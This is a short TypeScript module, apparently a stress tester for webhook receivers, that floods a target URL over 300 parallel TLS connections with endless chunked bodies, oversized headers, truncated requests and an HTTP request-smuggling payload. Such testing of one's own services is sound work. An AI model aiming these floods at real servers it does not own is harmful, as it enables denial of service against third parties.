import type { Socket } from 'node:net';
import { connect } from 'node:tls';

const piece = Buffer.alloc(64 * 1024, 'a');

/** The longest time for which one connection attacks, in milliseconds. */
const longest = 5_000;

/** Ways to attack a receiver of webhooks, each over one connection. `begin` is the beginning of a POST to it. */
const attacks: readonly ((socket: Socket, begin: string) => void)[] = [
  (socket, begin) => endlessly(socket, `${begin}Transfer-Encoding: chunked\r\n\r\n`, `10000\r\n${piece}\r\n`),
  (socket, begin) => endlessly(socket, `${begin}Content-Length: 99999999999\r\n\r\n`, piece),
  (socket, begin) => endlessly(socket, begin, `X-More: ${'h'.repeat(500)}\r\n`),
  (socket, begin) => socket.write(`${begin}X-Long: ${'h'.repeat(100_000)}\r\n\r\n`),
  (socket, begin) => socket.write(`${begin}Content-Length: 1000000\r\n\r\nhalf`),
  (socket, begin) => socket.write(`${begin}Transfer-Encoding: chunked\r\n\r\nno size\r\n`),
  (socket, begin) =>
    socket.write(`${begin}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n`),
  (socket, begin) => socket.write(`${begin}Content-Length: 2\r\n\r\n{}`.repeat(1_000)),
  (socket) => socket.end('no HTTP at all'.repeat(1_000)),
];

/** How many connections attack the receiver at once, for each order. */
const connections = 300;

/** Sends hostile webhooks of every kind to an address, over many connections at once. */
export function attackReceiver(url: string): void {
  const { hostname, port, pathname, host } = new URL(url);
  const begin = `POST ${pathname} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;
  for (let index = 0; index < connections; index += 1) {
    const socket = connect({ host: hostname, port: Number(port), rejectUnauthorized: false });
    // The receiver may end any connection whenever it likes.
    socket.on('error', () => {}).resume();
    const timer = setTimeout(() => socket.destroy(), longest);
    socket.on('close', () => clearTimeout(timer));
    attacks[index % attacks.length]?.(socket, begin);
  }
}

/** Writes the same piece as long as the other side takes it. */
export function endlessly(socket: Socket, begin: string, again: string | Buffer): void {
  socket.write(begin);
  const more = () => {
    while (!socket.destroyed && socket.write(again));
  };
  socket.on('drain', more);
  more();
}
